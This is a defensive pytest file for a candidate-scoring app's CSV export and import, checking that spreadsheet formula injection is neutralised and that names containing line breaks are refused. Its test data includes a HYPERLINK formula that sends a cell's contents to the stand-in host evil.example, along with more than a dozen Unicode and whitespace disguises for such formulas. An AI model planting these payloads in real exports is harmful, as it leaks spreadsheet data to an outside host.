"""CSV exports a spreadsheet cannot be tricked by (issue 11, defect 10).

A candidate name with a carriage return inside (possible through the CSV import) was written
unquoted, so a spreadsheet started a new row there and a following `=…` became a live formula;
cells beginning with a space, a newline, a zero-width space or a full-width `＝` were not
neutralised. Every CSV here is read back the way a spreadsheet would, with Python's csv module and
with pandas: the same rows, the same cells, and no cell that starts a formula.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import timedelta

import pandas as pd
import pytest

from scoring import candidates_csv, debrief, exports, openings, scorecards
from scoring.errors import InvalidInput
from scoring.matrix import full_scores
from world import DAY, build

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
# Each starts a formula once a spreadsheet skips what comes before it or folds its width.
DISGUISED = [
    " " + FORMULA,
    "\n" + FORMULA,
    "\r\n" + FORMULA,
    "\u200b" + FORMULA,  # zero-width space
    "\ufeff" + FORMULA,  # byte-order mark
    "\u2060@SUM(A1:A9)",  # word joiner
    "\u00a0\u3000+1+1",  # no-break and ideographic spaces
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(A1:A9)",
    "﹦1+1",  # small equals sign
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Grace Hopper", "O'Brien", "a=b", "4 · Yes", "Anne-Marie", "", "1+1"]


def read_back(text: str) -> tuple[list[dict], pd.DataFrame]:
    """The CSV as Python's csv module and as pandas read it."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    return rows, frame


def starts_a_formula(cell: str) -> bool:
    folded = unicodedata.normalize("NFKC", cell)
    visible = folded.lstrip().lstrip("\u200b\u2060\ufeff").lstrip()
    return visible[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("value", DISGUISED)
def test_a_disguised_formula_is_neutralised(value):
    text = exports.to_csv([{"candidate": value, "n": 1}])
    rows, frame = read_back(text)
    assert [r["candidate"] for r in rows] == ["'" + value] == list(frame["candidate"])


@pytest.mark.parametrize("value", HARMLESS)
def test_an_ordinary_cell_is_left_alone(value):
    rows, frame = read_back(exports.to_csv([{"candidate": value, "n": 1}]))
    assert [r["candidate"] for r in rows] == [value] == list(frame["candidate"])


@pytest.mark.parametrize("brk", ["\r", "\n", "\r\n"])
def test_a_line_break_inside_a_cell_is_quoted_and_stays_in_its_row(brk):
    rows = [
        {"candidate": f"Ada{brk}=1+1", "decision": "hire"},
        {"candidate": "Alan", "decision": "no_hire"},
    ]
    text = exports.to_csv(rows)
    assert f'"Ada{brk}=1+1"' in text
    back, frame = read_back(text)
    assert back == rows
    assert frame.to_dict("records") == rows


def test_the_scorecards_export_of_a_feedback_with_a_carriage_return(tmp_path):
    """Through the service: the feedback after a carriage return is not a row of its own, and
    no cell of the export starts a formula however it is disguised."""
    w = build(tmp_path / "csv.sqlite")
    criteria = full_scores(w.store, w.seats["ana"], 3)
    first = next(iter(criteria))
    criteria[first]["evidence"] = "\u200b" + FORMULA
    feedback = "Strong on the basics.\r" + FORMULA + "\r\n＝1+1"
    scorecards.submit(
        w.store,
        w.ana,
        w.seats["ana"],
        overall=4,
        feedback=feedback,
        criteria=criteria,
        now=DAY + timedelta(hours=6),
    )
    scorecards.submit(
        w.store,
        w.bo,
        w.seats["bo"],
        overall=4,
        feedback="＝1+1 says it all",
        criteria=full_scores(w.store, w.seats["bo"], 3),
        now=DAY + timedelta(hours=6),
    )
    debrief.open_debrief(w.store, w.manager, w.candidate_id, reason="Cy is away")
    rows = exports.scorecard_rows(w.store, w.manager, w.opening_id)
    back, frame = read_back(exports.to_csv(rows))
    assert len(back) == len(frame) == len(rows)
    assert {r["feedback"] for r in back} == {feedback, "'＝1+1 says it all"}
    assert "'\u200b" + FORMULA in {r["evidence"] for r in back}
    for row in back:
        for cell in row.values():
            assert not starts_a_formula(cell), cell


def test_the_import_refuses_a_name_with_a_line_break(tmp_path):
    """The way a carriage return got into a name: a quoted field of the candidates file."""
    w = build(tmp_path / "import.sqlite")
    text = 'name,email\n"Ada\r=HYPERLINK(""http://evil.example"")",ada@example.org\nAlan,\n'
    with pytest.raises(candidates_csv.ImportRefused) as refused:
        candidates_csv.import_candidates(w.store, w.coordinator, w.opening_id, text, "in.csv")
    assert refused.value.problems == [
        "in.csv line 2: name: must be one line (no line breaks or control characters)"
    ]
    assert [c.name for c in openings.list_candidates(w.store, w.coordinator, w.opening_id)] == [
        "Grace Hopper"
    ]
    with pytest.raises(InvalidInput, match="name: must be one line"):
        openings.add_candidate(w.store, w.coordinator, w.opening_id, "Ada\r=1+1")
